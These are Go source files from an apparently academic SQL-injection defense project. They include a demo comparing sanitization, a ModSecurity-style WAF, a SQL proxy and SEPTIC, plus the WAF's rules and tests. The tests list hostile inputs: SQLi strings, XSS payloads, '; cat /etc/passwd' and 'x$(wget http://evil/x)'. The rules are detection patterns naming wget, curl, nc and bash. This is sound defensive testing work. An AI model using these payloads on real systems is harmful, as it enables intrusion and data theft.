// Package demo orchestrates the five phases of the demonstration (§IV):
//
//	A — attacks against the application protected only by its PHP
//	    sanitization functions (they all succeed);
//	B — the same attacks with ModSecurity in front (some blocked, the
//	    semantic-mismatch ones pass: false negatives);
//	C — SEPTIC training (one model per distinct query, duplicates not
//	    re-added, models persisted);
//	D — SEPTIC in prevention mode (every attack blocked, benign traffic
//	    untouched: no false negatives, no false positives);
//	E — side-by-side comparison of the mechanisms.
//
// A GreenSQL-style SQL proxy is included as an extra baseline (the
// related-work deployment the paper discusses), so the comparison table
// has the full protection spectrum: sanitization, WAF, proxy, SEPTIC.
package demo

import (
	"errors"
	"fmt"
	"sort"
	"strings"

	"github.com/septic-db/septic/internal/attacks"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/dbfw"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/waf"
	"github.com/septic-db/septic/internal/webapp"
	"github.com/septic-db/septic/internal/webapp/apps"
)

// Outcome is one attack case measured against every mechanism.
type Outcome struct {
	Case attacks.Case
	// ExecutedUnprotected: with sanitization only, the attack reached
	// the DBMS and executed (phase A).
	ExecutedUnprotected bool
	// BlockedByWAF: ModSecurity stopped the setup or trigger request
	// (phase B).
	BlockedByWAF bool
	// BlockedByProxy: the SQL proxy dropped one of the queries.
	BlockedByProxy bool
	// BlockedBySeptic: SEPTIC dropped the attack (phase D).
	BlockedBySeptic bool
	// SepticDetail names the detection (sqli step or plugin).
	SepticDetail string
}

// FalsePositives counts benign requests each mechanism wrongly blocked.
type FalsePositives struct {
	WAF    int
	Proxy  int
	Septic int
}

// Report is the full demonstration result.
type Report struct {
	Outcomes []Outcome
	// ModelsLearned is the size of SEPTIC's store after training
	// (phase C).
	ModelsLearned int
	// RetrainAdded is how many models a second identical training pass
	// added (phase C property: must be zero).
	RetrainAdded int
	FP           FalsePositives
	// SepticEvents is the event register after phase D (the demo's
	// "SEPTIC events" display).
	SepticEvents []core.Event
}

// freshWaspMon builds a new WaspMon deployment over the given executor,
// installing the schema through the raw engine so protection layers
// never see DDL.
func freshWaspMon(db *engine.DB, exec webapp.Executor) (*webapp.App, error) {
	for _, q := range apps.WaspMonSchema() {
		if _, err := db.Exec(q); err != nil {
			return nil, fmt.Errorf("schema: %w", err)
		}
	}
	return apps.NewWaspMon(exec), nil
}

// background replays the standard benign traffic so every deployment's
// database reaches the same state before an attack runs (it doubles as
// SEPTIC/proxy training where a guard is attached).
func background(app *webapp.App) error {
	for _, req := range apps.WaspMonTraining() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			return fmt.Errorf("background request %s failed: %v", req, resp.Err)
		}
	}
	return nil
}

// RunOption configures a demonstration run.
type RunOption func(*runConfig)

type runConfig struct {
	wafOpts []waf.Option
}

// WithWAFOptions forwards options to the phase-B WAF — the paranoia
// ablation runs the whole demonstration against a stricter rule set.
func WithWAFOptions(opts ...waf.Option) RunOption {
	return func(c *runConfig) { c.wafOpts = opts }
}

// Run executes all phases and assembles the report.
func Run(opts ...RunOption) (*Report, error) {
	var cfg runConfig
	for _, o := range opts {
		o(&cfg)
	}
	report := &Report{}
	corpus := attacks.Corpus()
	benign := attacks.Benign()

	// --- Phase A: sanitization only -----------------------------------
	for _, c := range corpus {
		db := engine.New()
		app, err := freshWaspMon(db, db)
		if err != nil {
			return nil, err
		}
		if err := background(app); err != nil {
			return nil, err
		}
		ok := true
		for _, setup := range c.Setup {
			if resp := app.Serve(setup.Clone()); resp.Status != 200 {
				ok = false
			}
		}
		var executed bool
		if ok {
			resp := app.Serve(c.Request.Clone())
			executed = resp.Status == 200
		}
		report.Outcomes = append(report.Outcomes, Outcome{
			Case:                c,
			ExecutedUnprotected: executed,
		})
	}

	// --- Phase B: ModSecurity in front ---------------------------------
	for i, c := range corpus {
		db := engine.New()
		app, err := freshWaspMon(db, db)
		if err != nil {
			return nil, err
		}
		if err := background(app); err != nil {
			return nil, err
		}
		w := waf.New(cfg.wafOpts...)
		serve := waf.Protect(w, app)
		blocked := false
		for _, setup := range c.Setup {
			if resp := serve(setup.Clone()); resp.Status == 403 {
				blocked = true
			}
		}
		if !blocked {
			if resp := serve(c.Request.Clone()); resp.Status == 403 {
				blocked = true
			}
		}
		report.Outcomes[i].BlockedByWAF = blocked
	}

	// --- Extra baseline: GreenSQL-style proxy --------------------------
	for i, c := range corpus {
		db := engine.New()
		fw := dbfw.New(db)
		app, err := freshWaspMon(db, fw)
		if err != nil {
			return nil, err
		}
		for _, req := range apps.WaspMonTraining() {
			if resp := app.Serve(req.Clone()); resp.Status != 200 {
				return nil, fmt.Errorf("proxy training request %s failed: %v", req, resp.Err)
			}
		}
		fw.SetMode(dbfw.ModeEnforcing)
		blocked := false
		proxyErr := func(resp *webapp.Response) bool {
			return resp.Err != nil && errors.Is(resp.Err, dbfw.ErrBlockedByProxy)
		}
		for _, setup := range c.Setup {
			if resp := app.Serve(setup.Clone()); proxyErr(resp) {
				blocked = true
			}
		}
		if !blocked {
			if resp := app.Serve(c.Request.Clone()); proxyErr(resp) {
				blocked = true
			}
		}
		report.Outcomes[i].BlockedByProxy = blocked
	}

	// --- Phase C: SEPTIC training --------------------------------------
	guard := core.New(core.Config{Mode: core.ModeTraining})
	db := engine.New(engine.WithQueryHook(guard))
	app, err := freshWaspMon(db, db)
	if err != nil {
		return nil, err
	}
	for _, req := range apps.WaspMonTraining() {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			return nil, fmt.Errorf("SEPTIC training request %s failed: %v", req, resp.Err)
		}
	}
	report.ModelsLearned = guard.Store().Len()
	// Re-run the training: no model may be added twice.
	before := guard.Store().Len()
	for _, req := range apps.WaspMonTraining() {
		_ = app.Serve(req.Clone())
	}
	report.RetrainAdded = guard.Store().Len() - before

	// --- Phase D: SEPTIC prevention ------------------------------------
	for i, c := range corpus {
		guard := core.New(core.Config{Mode: core.ModeTraining})
		db := engine.New(engine.WithQueryHook(guard))
		app, err := freshWaspMon(db, db)
		if err != nil {
			return nil, err
		}
		for _, req := range apps.WaspMonTraining() {
			if resp := app.Serve(req.Clone()); resp.Status != 200 {
				return nil, fmt.Errorf("training %s failed: %v", req, resp.Err)
			}
		}
		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
			IncrementalLearning: false,
		})
		blocked := false
		for _, setup := range c.Setup {
			if resp := app.Serve(setup.Clone()); resp.Blocked {
				blocked = true
			}
		}
		resp := app.Serve(c.Request.Clone())
		if resp.Blocked {
			blocked = true
		}
		report.Outcomes[i].BlockedBySeptic = blocked
		if evs := guard.Logger().Attacks(); len(evs) > 0 {
			ev := evs[len(evs)-1]
			if ev.Attack == core.AttackSQLI {
				report.Outcomes[i].SepticDetail = "sqli/" + ev.Step.String()
			} else {
				report.Outcomes[i].SepticDetail = "stored/" + ev.Plugin
			}
			report.SepticEvents = append(report.SepticEvents, evs...)
		}
	}

	// --- False positives: benign traffic through every mechanism -------
	// WAF.
	w := waf.New(cfg.wafOpts...)
	for _, req := range benign {
		if d := w.Check(req.Clone()); d.Blocked {
			report.FP.WAF++
		}
	}
	// Proxy.
	{
		db := engine.New()
		fw := dbfw.New(db)
		app, err := freshWaspMon(db, fw)
		if err != nil {
			return nil, err
		}
		for _, req := range apps.WaspMonTraining() {
			_ = app.Serve(req.Clone())
		}
		fw.SetMode(dbfw.ModeEnforcing)
		for _, req := range benign {
			resp := app.Serve(req.Clone())
			if resp.Err != nil && errors.Is(resp.Err, dbfw.ErrBlockedByProxy) {
				report.FP.Proxy++
			}
		}
	}
	// SEPTIC.
	{
		guard := core.New(core.Config{Mode: core.ModeTraining})
		db := engine.New(engine.WithQueryHook(guard))
		app, err := freshWaspMon(db, db)
		if err != nil {
			return nil, err
		}
		for _, req := range apps.WaspMonTraining() {
			_ = app.Serve(req.Clone())
		}
		guard.SetConfig(core.Config{
			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
			IncrementalLearning: false,
		})
		for _, req := range benign {
			if resp := app.Serve(req.Clone()); resp.Blocked {
				report.FP.Septic++
			}
		}
	}

	return report, nil
}

// Summary renders the phase-E comparison table as text.
func (r *Report) Summary() string {
	var b strings.Builder
	b.WriteString("phase E — mechanism comparison (x = attack blocked)\n")
	fmt.Fprintf(&b, "%-28s %-26s %-9s %-9s %-9s %-9s %s\n",
		"case", "class", "sanitize", "modsec", "proxy", "septic", "septic detail")
	for _, o := range r.Outcomes {
		sanitize := " " // sanitization never blocks: the attack executed
		if !o.ExecutedUnprotected {
			sanitize = "x"
		}
		fmt.Fprintf(&b, "%-28s %-26s %-9s %-9s %-9s %-9s %s\n",
			o.Case.Name, o.Case.Class,
			sanitize, mark(o.BlockedByWAF), mark(o.BlockedByProxy),
			mark(o.BlockedBySeptic), o.SepticDetail)
	}
	det := r.DetectionCounts()
	keys := make([]string, 0, len(det))
	for k := range det {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	b.WriteString("\ndetection totals: ")
	for i, k := range keys {
		if i > 0 {
			b.WriteString(", ")
		}
		fmt.Fprintf(&b, "%s %d/%d", k, det[k], len(r.Outcomes))
	}
	fmt.Fprintf(&b, "\nfalse positives on %d benign requests: modsec=%d proxy=%d septic=%d\n",
		len(attacks.Benign()), r.FP.WAF, r.FP.Proxy, r.FP.Septic)
	fmt.Fprintf(&b, "training: %d models learned, %d added on retrain (must be 0)\n",
		r.ModelsLearned, r.RetrainAdded)
	return b.String()
}

func mark(b bool) string {
	if b {
		return "x"
	}
	return " "
}

// DetectionCounts aggregates blocked-attack counts per mechanism.
func (r *Report) DetectionCounts() map[string]int {
	out := map[string]int{"modsec": 0, "proxy": 0, "septic": 0}
	for _, o := range r.Outcomes {
		if o.BlockedByWAF {
			out["modsec"]++
		}
		if o.BlockedByProxy {
			out["proxy"]++
		}
		if o.BlockedBySeptic {
			out["septic"]++
		}
	}
	return out
}
