package waf

import (
	"fmt"
	"sync"

	"github.com/septic-db/septic/internal/webapp"
)

// EngineMode mirrors ModSecurity's SecRuleEngine directive.
type EngineMode int

// Engine modes.
const (
	ModeOff EngineMode = iota + 1
	// ModeDetectionOnly logs matches but never blocks.
	ModeDetectionOnly
	// ModeOn blocks requests whose anomaly score reaches the threshold.
	ModeOn
)

// String names the engine mode.
func (m EngineMode) String() string {
	switch m {
	case ModeOff:
		return "Off"
	case ModeDetectionOnly:
		return "DetectionOnly"
	case ModeOn:
		return "On"
	default:
		return fmt.Sprintf("EngineMode(%d)", int(m))
	}
}

// RuleHit is one rule match inside a decision.
type RuleHit struct {
	RuleID int
	Msg    string
	Param  string
	Score  int
}

// Decision is the WAF's verdict on one request.
type Decision struct {
	// Blocked is true when the request must not reach the application.
	Blocked bool
	// Score is the accumulated inbound anomaly score.
	Score int
	// Hits are the matched rules.
	Hits []RuleHit
}

// LogEntry records one inspected request (the ModSecurity audit log of
// the demo display).
type LogEntry struct {
	Request webapp.Request
	Decision
}

// WAF is a ModSecurity-like firewall instance.
type WAF struct {
	mode       EngineMode
	paranoia   ParanoiaLevel
	threshold  int
	rules      []Rule
	transforms []Transform

	mu  sync.Mutex
	log []LogEntry
}

// Option configures a WAF.
type Option func(*WAF)

// WithMode sets the engine mode (default ModeOn).
func WithMode(m EngineMode) Option {
	return func(w *WAF) { w.mode = m }
}

// WithParanoia sets the paranoia level (default 1, the CRS default).
func WithParanoia(p ParanoiaLevel) Option {
	return func(w *WAF) { w.paranoia = p }
}

// WithThreshold sets the inbound anomaly threshold (default 5, the CRS
// default: one critical rule suffices).
func WithThreshold(n int) Option {
	return func(w *WAF) { w.threshold = n }
}

// WithRules replaces the rule set.
func WithRules(rules []Rule) Option {
	return func(w *WAF) { w.rules = rules }
}

// New builds a WAF with the mini core rule set.
func New(opts ...Option) *WAF {
	w := &WAF{
		mode:       ModeOn,
		paranoia:   Paranoia1,
		threshold:  5,
		rules:      CoreRuleSet(),
		transforms: standardPipeline(),
	}
	for _, o := range opts {
		o(w)
	}
	return w
}

// Check inspects one request's parameters and renders a decision. With
// ModeOff the request passes untouched and unlogged.
func (w *WAF) Check(req webapp.Request) Decision {
	if w.mode == ModeOff {
		return Decision{}
	}
	var d Decision
	for name, raw := range req.Params {
		value := applyTransforms(raw, w.transforms)
		for i := range w.rules {
			rule := &w.rules[i]
			if rule.Paranoia > w.paranoia {
				continue
			}
			if rule.Pattern.MatchString(value) {
				d.Score += int(rule.Severity)
				d.Hits = append(d.Hits, RuleHit{
					RuleID: rule.ID,
					Msg:    rule.Msg,
					Param:  name,
					Score:  int(rule.Severity),
				})
			}
		}
	}
	if w.mode == ModeOn && d.Score >= w.threshold {
		d.Blocked = true
	}
	w.mu.Lock()
	w.log = append(w.log, LogEntry{Request: req.Clone(), Decision: d})
	w.mu.Unlock()
	return d
}

// Log returns a snapshot of the audit log.
func (w *WAF) Log() []LogEntry {
	w.mu.Lock()
	defer w.mu.Unlock()
	out := make([]LogEntry, len(w.log))
	copy(out, w.log)
	return out
}

// BlockedCount counts blocked requests in the audit log.
func (w *WAF) BlockedCount() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	n := 0
	for _, e := range w.log {
		if e.Blocked {
			n++
		}
	}
	return n
}

// Protect wraps an application behind the WAF: requests are checked
// first and answered with 403 when blocked, mirroring the Apache module
// deployment ("integrated in the Apache web server... checks the
// requests incoming from the browsers before they reach the web
// application").
func Protect(w *WAF, app *webapp.App) func(webapp.Request) *webapp.Response {
	return func(req webapp.Request) *webapp.Response {
		if d := w.Check(req); d.Blocked {
			return &webapp.Response{
				Status: 403,
				Body:   "Forbidden (ModSecurity)",
				Err:    fmt.Errorf("blocked by WAF: score %d", d.Score),
			}
		}
		return app.Serve(req)
	}
}
