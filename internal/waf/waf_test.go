package waf

import (
	"testing"

	"github.com/septic-db/septic/internal/webapp"
)

func checkOne(w *WAF, param, value string) Decision {
	return w.Check(webapp.Request{Path: "/x", Params: map[string]string{param: value}})
}

func TestWAFBlocksClassicSQLI(t *testing.T) {
	w := New()
	attacks := []string{
		"' OR '1'='1",
		"x' OR 1=1-- ",
		"1 OR 1=1",
		"0 UNION SELECT username, password FROM users",
		"'; DROP TABLE users",
		"1; select sleep(5)",
		"' AND SLEEP(5)-- ",
		"1 and 2=2",
		"x' union all select load_file('/etc/passwd')-- ",
		"%27%20OR%20%271%27%3D%271", // URL-encoded quote tautology
		"un/**/ion sel/**/ect 1",    // comment obfuscation
	}
	for _, a := range attacks {
		if d := checkOne(w, "q", a); !d.Blocked {
			t.Errorf("classic attack not blocked: %q (score %d)", a, d.Score)
		}
	}
}

func TestWAFBlocksClassicXSSAndInclusion(t *testing.T) {
	w := New()
	attacks := []string{
		"<script>alert(1)</script>",
		"<SCRIPT SRC=http://evil/x.js>",
		"<img src=x onerror=alert(1)>",
		"<a href='javascript:alert(1)'>x</a>",
		"<iframe src='http://evil'>",
		"&lt;script&gt;alert(1)&lt;/script&gt;", // entity-encoded
		"../../etc/passwd",
		"http://evil.example/shell.php",
		"php://input",
		"; cat /etc/passwd",
		"x$(wget http://evil/x)",
	}
	for _, a := range attacks {
		if d := checkOne(w, "q", a); !d.Blocked {
			t.Errorf("attack not blocked: %q (score %d)", a, d.Score)
		}
	}
}

// TestWAFFalseNegativesOnSemanticMismatch pins the demonstration's
// phase-B result: the mismatch attacks pass ModSecurity.
func TestWAFFalseNegativesOnSemanticMismatch(t *testing.T) {
	w := New()
	missed := []string{
		"nothingʼ OR ʼ1ʼ=ʼ1", // confusable quotes: no ASCII quote to anchor on
		"ID34FGʼ-- ",         // has "-- ", but rule 942150 anchors on a preceding quote
		"adminʼ-- ",          // ditto
		"xʼ AND ʼ1ʼ=ʼ1",      // confusable mimicry
	}
	for _, a := range missed {
		if d := checkOne(w, "q", a); d.Blocked {
			t.Errorf("expected false negative, but %q was blocked (hits %v)", a, d.Hits)
		}
	}
	// Second-order step 2: the request carries only a numeric id — there
	// is nothing for a WAF to see.
	d := checkOne(w, "id", "2")
	if d.Blocked || d.Score != 0 {
		t.Errorf("benign-looking second-order trigger scored %d", d.Score)
	}
}

func TestWAFPassesBenignTraffic(t *testing.T) {
	w := New()
	benign := []string{
		"ana",
		"O'Brien", // single quote alone: no connective follows
		"42",
		"hello world",
		"a+b=c in math",
		"see https://example.com/docs",
		"Tom & Jerry",
		"price < 100",
		"energy",
		"basement",
	}
	for _, b := range benign {
		if d := checkOne(w, "q", b); d.Blocked {
			t.Errorf("benign input blocked: %q (hits %v)", b, d.Hits)
		}
	}
}

func TestWAFParanoiaLevels(t *testing.T) {
	// PL2 adds the aggressive bare-boolean rule.
	pl1 := New(WithParanoia(Paranoia1))
	pl2 := New(WithParanoia(Paranoia2), WithThreshold(3))
	payload := "x OR status=active" // no quotes, no digits
	if d := pl1.Check(webapp.Request{Path: "/", Params: map[string]string{"q": payload}}); d.Blocked {
		t.Errorf("PL1 should miss bare boolean: %v", d.Hits)
	}
	if d := pl2.Check(webapp.Request{Path: "/", Params: map[string]string{"q": payload}}); !d.Blocked {
		t.Errorf("PL2 should catch bare boolean (score %d)", d.Score)
	}
}

func TestWAFDetectionOnlyLogsWithoutBlocking(t *testing.T) {
	w := New(WithMode(ModeDetectionOnly))
	d := checkOne(w, "q", "' OR '1'='1")
	if d.Blocked {
		t.Error("DetectionOnly must not block")
	}
	if d.Score == 0 {
		t.Error("DetectionOnly must still score")
	}
	if len(w.Log()) != 1 {
		t.Errorf("log entries = %d, want 1", len(w.Log()))
	}
}

func TestWAFOffMode(t *testing.T) {
	w := New(WithMode(ModeOff))
	if d := checkOne(w, "q", "' OR '1'='1"); d.Blocked || d.Score != 0 {
		t.Errorf("Off mode must pass everything: %+v", d)
	}
	if len(w.Log()) != 0 {
		t.Error("Off mode must not log")
	}
}

func TestWAFAnomalyAccumulatesAcrossParams(t *testing.T) {
	// Two warning-level hits (3 points each) cross the threshold of 5
	// even though neither alone would.
	w := New(WithRules([]Rule{
		{ID: 1, Msg: "w1", Severity: SeverityWarning, Paranoia: Paranoia1,
			Pattern: CoreRuleSet()[4].Pattern}, // comment termination
	}))
	d := w.Check(webapp.Request{Path: "/", Params: map[string]string{
		"a": "'x-- ", "b": "'y-- ",
	}})
	if d.Score != 6 || !d.Blocked {
		t.Errorf("decision = %+v, want score 6 blocked", d)
	}
}

func TestProtectWrapsApp(t *testing.T) {
	app := webapp.NewApp("t", nil)
	app.Handle("/ok", func(c *webapp.Ctx) { c.Write("fine") })
	serve := Protect(New(), app)

	resp := serve(webapp.Request{Path: "/ok", Params: map[string]string{"q": "hello"}})
	if resp.Status != 200 || resp.Body != "fine" {
		t.Errorf("benign = %+v", resp)
	}
	resp = serve(webapp.Request{Path: "/ok", Params: map[string]string{"q": "' OR '1'='1"}})
	if resp.Status != 403 {
		t.Errorf("attack = %+v, want 403", resp)
	}
}

func TestTransforms(t *testing.T) {
	tests := []struct {
		name string
		f    Transform
		in   string
		want string
	}{
		{"urlDecode percent", URLDecode, "%27%20OR", "' OR"},
		{"urlDecode plus", URLDecode, "a+b", "a b"},
		{"urlDecode invalid", URLDecode, "100%", "100%"},
		{"lowercase", Lowercase, "UNION Select", "union select"},
		{"compress ws", CompressWhitespace, "a \t\n b", "a b"},
		{"entity decode", HTMLEntityDecode, "&lt;script&gt;", "<script>"},
		{"entity numeric", HTMLEntityDecode, "&#60;x&#62;", "<x>"},
		{"remove comments", RemoveComments, "un/**/ion", "union"},
		{"remove unterminated", RemoveComments, "sel/*ect", "sel"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.f(tt.in); got != tt.want {
				t.Errorf("%s(%q) = %q, want %q", tt.name, tt.in, got, tt.want)
			}
		})
	}
}
