package waf

import "regexp"

// Severity levels carry the CRS anomaly points.
type Severity int

// Severities (anomaly score contributions, CRS defaults).
const (
	SeverityNotice   Severity = 2
	SeverityWarning  Severity = 3
	SeverityError    Severity = 4
	SeverityCritical Severity = 5
)

// ParanoiaLevel selects how aggressive the rule set is; higher levels
// add rules that trade false positives for coverage (CRS semantics).
type ParanoiaLevel int

// Paranoia levels.
const (
	Paranoia1 ParanoiaLevel = 1
	Paranoia2 ParanoiaLevel = 2
)

// Rule is one detection rule applied to request arguments.
type Rule struct {
	// ID follows the CRS numbering blocks: 942xxx SQLi, 941xxx XSS,
	// 930xxx LFI, 931xxx RFI, 932xxx RCE.
	ID       int
	Msg      string
	Severity Severity
	Paranoia ParanoiaLevel
	Pattern  *regexp.Regexp
}

// CoreRuleSet returns the miniature OWASP CRS. The rules are faithful
// reductions of their CRS counterparts: anchored on the ASCII
// metacharacters attacks need — which is precisely why payloads whose
// metacharacters only materialize inside the DBMS sail through.
func CoreRuleSet() []Rule {
	return []Rule{
		// --- SQL injection (942xxx) ---
		{
			ID: 942100, Msg: "SQL injection: quote breaking out of string context",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			// A quote followed by SQL connective or comment.
			Pattern: regexp.MustCompile(`['"]\s*(or|and|union|;|--|#)`),
		},
		{
			ID: 942130, Msg: "SQL injection: tautology",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			// OR/AND n=n with optional ASCII quotes.
			Pattern: regexp.MustCompile(`\b(or|and)\b\s*['"]?([0-9]+)['"]?\s*=\s*['"]?([0-9]+)`),
		},
		{
			ID: 942190, Msg: "SQL injection: UNION-based extraction",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\bunion\b(\s+all)?\s+select\b`),
		},
		{
			ID: 942140, Msg: "SQL injection: stacked query",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`;\s*(select|insert|update|delete|drop|create)\b`),
		},
		{
			ID: 942150, Msg: "SQL injection: comment termination",
			Severity: SeverityWarning, Paranoia: Paranoia1,
			// Trailing comment after a quote (classic payload tail).
			Pattern: regexp.MustCompile(`['"].*(--\s|#)`),
		},
		{
			ID: 942160, Msg: "SQL injection: probing functions",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\b(sleep|benchmark|extractvalue|updatexml|load_file)\s*\(`),
		},
		{
			ID: 942200, Msg: "SQL injection: information schema access",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\binformation_schema\b|\bmysql\.user\b`),
		},
		{
			ID: 942101, Msg: "SQL injection: bare boolean condition (PL2)",
			Severity: SeverityCritical, Paranoia: Paranoia2,
			// Aggressive: OR/AND followed by any comparison. Critical like
			// the real PL2 SQLi rules — and FP-prone, which is why CRS
			// gates it behind paranoia 2.
			Pattern: regexp.MustCompile(`\b(or|and)\b\s+\S+\s*=\s*\S+`),
		},

		// --- XSS (941xxx) ---
		{
			ID: 941100, Msg: "XSS: script tag",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`<\s*script`),
		},
		{
			ID: 941120, Msg: "XSS: event handler attribute",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\bon[a-z]+\s*=`),
		},
		{
			ID: 941130, Msg: "XSS: script URI scheme",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`(javascript|vbscript)\s*:`),
		},
		{
			ID: 941160, Msg: "XSS: active HTML element",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`<\s*(iframe|object|embed|applet|meta|base)\b`),
		},

		// --- LFI (930xxx) ---
		{
			ID: 930100, Msg: "LFI: path traversal",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\.\./|\.\.\\`),
		},
		{
			ID: 930120, Msg: "LFI: OS file access",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`/etc/(passwd|shadow)|boot\.ini|win\.ini`),
		},

		// --- RFI (931xxx) ---
		{
			ID: 931100, Msg: "RFI: URL with include-style payload",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`(https?|ftp)://[^\s]+\.(php|inc|phtml|asp|jsp)`),
		},
		{
			ID: 931110, Msg: "RFI: PHP stream wrapper",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`\b(php|data|expect|zip|phar)://`),
		},

		// --- RCE (932xxx) ---
		{
			ID: 932100, Msg: "RCE: unix command chain",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile(`[;|&]\s*(ls|cat|rm|wget|curl|nc|bash|sh|id|whoami|uname|ping|chmod)\b`),
		},
		{
			ID: 932110, Msg: "RCE: command substitution",
			Severity: SeverityCritical, Paranoia: Paranoia1,
			Pattern: regexp.MustCompile("\\$\\(|`[a-z/ .-]+`"),
		},
	}
}
