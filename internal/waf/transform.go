// Package waf implements a ModSecurity-style web application firewall
// with a miniature OWASP Core Rule Set: the protection component of the
// demonstration's phase B.
//
// The WAF inspects HTTP request parameters — the bytes the *client*
// sent — through a transformation pipeline and regex rules with CRS-style
// anomaly scoring. Like the real thing, it sits in front of the
// application, upstream of both the PHP sanitizers and the DBMS; it
// therefore shares the semantic mismatch blind spot the paper
// demonstrates: it never sees MySQL's charset decoding (confusable
// quotes look like inert multi-byte characters) and it never sees
// queries the application builds from data already in the database
// (second-order attacks arrive in requests that look perfectly benign).
package waf

import "strings"

// Transform is one step of a ModSecurity transformation pipeline.
type Transform func(string) string

// URLDecode is ModSecurity's urlDecode: one permissive percent-decoding
// pass, '+' to space.
func URLDecode(s string) string {
	if !strings.ContainsAny(s, "%+") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		switch {
		case s[i] == '+':
			b.WriteByte(' ')
		case s[i] == '%' && i+2 < len(s):
			hi, ok1 := unhex(s[i+1])
			lo, ok2 := unhex(s[i+2])
			if ok1 && ok2 {
				b.WriteByte(hi<<4 | lo)
				i += 2
				continue
			}
			b.WriteByte(s[i])
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func unhex(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	default:
		return 0, false
	}
}

// Lowercase is ModSecurity's lowercase transform.
func Lowercase(s string) string { return strings.ToLower(s) }

// CompressWhitespace collapses runs of whitespace to single spaces.
func CompressWhitespace(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	inSpace := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v' {
			if !inSpace {
				b.WriteByte(' ')
				inSpace = true
			}
			continue
		}
		inSpace = false
		b.WriteByte(c)
	}
	return b.String()
}

// HTMLEntityDecode decodes the named and numeric entities attackers use
// to smuggle markup (&lt; &#60; &#x3c; ...).
func HTMLEntityDecode(s string) string {
	if !strings.Contains(s, "&") {
		return s
	}
	replacer := strings.NewReplacer(
		"&lt;", "<", "&LT;", "<",
		"&gt;", ">", "&GT;", ">",
		"&quot;", `"`,
		"&#039;", "'", "&#39;", "'", "&apos;", "'",
		"&#60;", "<", "&#x3c;", "<", "&#x3C;", "<",
		"&#62;", ">", "&#x3e;", ">", "&#x3E;", ">",
		"&amp;", "&",
	)
	return replacer.Replace(s)
}

// RemoveComments strips SQL comment markers, defeating the classic
// "UN/**/ION" obfuscation.
func RemoveComments(s string) string {
	for {
		start := strings.Index(s, "/*")
		if start < 0 {
			return s
		}
		end := strings.Index(s[start+2:], "*/")
		if end < 0 {
			return s[:start]
		}
		s = s[:start] + s[start+2+end+2:]
	}
}

// applyTransforms runs the pipeline in order.
func applyTransforms(s string, transforms []Transform) string {
	for _, t := range transforms {
		s = t(s)
	}
	return s
}

// standardPipeline is the CRS default request-argument pipeline.
func standardPipeline() []Transform {
	return []Transform{URLDecode, HTMLEntityDecode, Lowercase, RemoveComments, CompressWhitespace}
}
