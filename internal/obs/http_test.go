package obs

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// getJSON fetches url and decodes the JSON body into out.
func getJSON(t *testing.T, url string, out any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: status %d", url, resp.StatusCode)
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		t.Fatalf("GET %s: decode: %v", url, err)
	}
}

func testHub() *Hub {
	h := NewHub(16)
	h.Metrics.Counter("core.attacks").Add(2)
	h.Metrics.Gauge("wire.conns.active").Set(3)
	h.Metrics.GaugeFunc("engine.parse_cache.entries", func() int64 { return 5 })
	h.Metrics.Histogram("engine.stage.execute").Observe(42 * time.Microsecond)
	h.Publish(Event{Kind: KindAttack, QueryID: "q1", Detector: "sqli/structural", Distance: 3, Class: "sqli", Action: "blocked"})
	h.Publish(Event{Kind: KindStore, Detail: "model learned"})
	return h
}

func TestMetricsJSON(t *testing.T) {
	srv := httptest.NewServer(Handler(testHub(), nil))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("content type %q", ct)
	}
	var snap Snapshot
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		t.Fatal(err)
	}
	if snap.Counters["core.attacks"] != 2 {
		t.Errorf("counters = %v", snap.Counters)
	}
	if snap.Gauges["wire.conns.active"] != 3 || snap.Gauges["engine.parse_cache.entries"] != 5 {
		t.Errorf("gauges = %v", snap.Gauges)
	}
